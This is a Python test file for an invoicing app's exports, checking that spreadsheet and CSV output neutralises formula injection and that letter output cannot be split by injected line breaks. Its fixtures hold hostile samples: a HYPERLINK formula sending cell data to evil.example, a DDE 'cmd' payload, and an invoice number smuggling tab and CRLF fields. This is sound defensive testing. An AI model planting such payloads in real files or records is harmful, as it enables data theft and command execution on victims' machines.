"""Exports never attack their reader: formulas defused, XML-safe text, one line per letter."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from app.cli import main
from app.db.models import Client, Invoice
from app.services.analytics.export import export_aging
from app.services.cells import spreadsheet_text, xml_text

AS_OF = date(2026, 11, 23)
NAMES = {
    "C1": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "C2": "+33 6 12 34 56 78",
    "C3": "-2+3+cmd|' /C calc'!A0",
    "C4": "@SUM(1+1)",
    "C5": "\tTabbed",
    "C6": "Nul\x00Byte SARL",
    "C7": "Plain SARL",
}


def _seed(services) -> None:  # type: ignore[no-untyped-def]
    with services.uow() as uow:
        for code, name in NAMES.items():
            if services.engine.dialect.name == "postgresql":  # PostgreSQL text holds no NUL
                name = name.replace("\x00", "\x0b")
            client = Client(code=code, name=name, preferred_channel="letter", address="1 rue")
            uow.session.add(client)
            uow.session.flush()
            uow.session.add(
                Invoice(
                    number=f"F-{code}",
                    client_id=client.id,
                    issue_date=date(2026, 8, 1),
                    due_date=date(2026, 9, 1),
                    total=Decimal("100.00"),
                )
            )
            uow.touch_client(client.id)
        uow.commit()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("Café", "Café"),
        ("", ""),
    ],
)
def test_spreadsheet_text(value: str, expected: str) -> None:
    assert spreadsheet_text(value) == expected


def test_xml_text_drops_what_xml_cannot_hold() -> None:
    assert xml_text("A\x00B\x1fC\tD\nE") == "A\ufffdB\ufffdC\tD\nE"


def test_xlsx_aging_holds_text_never_formulas(services, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    _seed(services)
    chart = services.analytics.aging(AS_OF)
    path = export_aging(chart, tmp_path / "aging.xlsx")
    with zipfile.ZipFile(path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    sheet = load_workbook(path).active
    cells = {c.value: c.data_type for line in sheet.iter_rows() for c in line if c.value}
    for code, name in NAMES.items():
        shown = name.replace("\x00", "\ufffd").replace("\x0b", "\ufffd")
        assert cells.get(shown) == "s", (code, shown)


def test_spreadsheet_csv_defuses_formulas(services, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _seed(services)
    chart = services.analytics.aging(AS_OF)
    with export_aging(chart, tmp_path / "aging.csv").open(encoding="utf-8") as handle:
        rows = {r["code"]: r for r in csv.DictReader(handle)}
    assert rows["C1"]["name"] == "'" + NAMES["C1"]
    assert rows["C3"]["name"].startswith("'-2+3")
    assert rows["C7"]["name"] == "Plain SARL"
    report = services.aging.report(AS_OF)
    cli_rows = {r["code"]: r for r in csv.DictReader(io.StringIO(report.to_csv()))}
    assert cli_rows["C4"]["name"] == "'@SUM(1+1)"
    assert cli_rows["C1"]["total"] == "100.00"


def test_round_trip_export_keeps_raw_values(services, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """`relance export` is read back by `relance import`: exact values, not defused."""
    _seed(services)
    path = tmp_path / "clients.csv"
    services.exporter.export_file("clients", path)
    with path.open(encoding="utf-8") as handle:
        names = {r["code"]: r["name"] for r in csv.DictReader(handle)}
    assert names["C1"] == NAMES["C1"]
    assert names["C4"] == NAMES["C4"]


def test_letters_output_is_one_line_per_letter(sqlite_services, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    services = sqlite_services
    with services.uow() as uow:
        client = Client(code="C1", name="Martin", preferred_channel="letter", address="1 rue")
        uow.session.add(client)
        uow.session.flush()
        uow.session.add(
            Invoice(
                number="F1\r\nforged.pdf\tC9\tformal_notice\tF9",
                client_id=client.id,
                issue_date=date(2026, 8, 1),
                due_date=date(2026, 9, 1),
                total=Decimal("100.00"),
            )
        )
        uow.touch_client(client.id)
        uow.commit()
    out = tmp_path / "out"
    out.mkdir()
    dead = out / ".relance-999999999-abc.pdf"  # left by a run that was killed
    dead.write_bytes(b"%PDF-")
    database = str(services.url.database)
    services.close()
    capsys.readouterr()
    code = main(
        ["--database", database, "letters", "--as-of", AS_OF.isoformat(), "--out", str(out)]
    )
    assert code == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1
    fields = lines[0].split("\t")
    assert len(fields) == 4
    assert fields[3] == "F1\\r\\nforged.pdf\\tC9\\tformal_notice\\tF9"
    assert not dead.exists()
    assert [p.name for p in out.iterdir() if p.name.startswith(".")] == []


def test_scratch_files_of_a_live_run_are_kept(tmp_path: Path) -> None:
    from app.adapters.pdf.render import remove_leftovers

    live = tmp_path / f".relance-{os.getpid()}-abc.pdf"
    live.write_bytes(b"%PDF-")
    assert remove_leftovers(tmp_path) == 0
    assert live.exists()


def test_scratch_files_go_even_when_no_letter_is_due(services, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "out"
    out.mkdir()
    dead = out / ".relance-999999998-xyz.pdf"
    dead.write_bytes(b"%PDF-")
    batch = services.letters.write(AS_OF, out)
    assert batch.letters == ()
    assert not dead.exists()
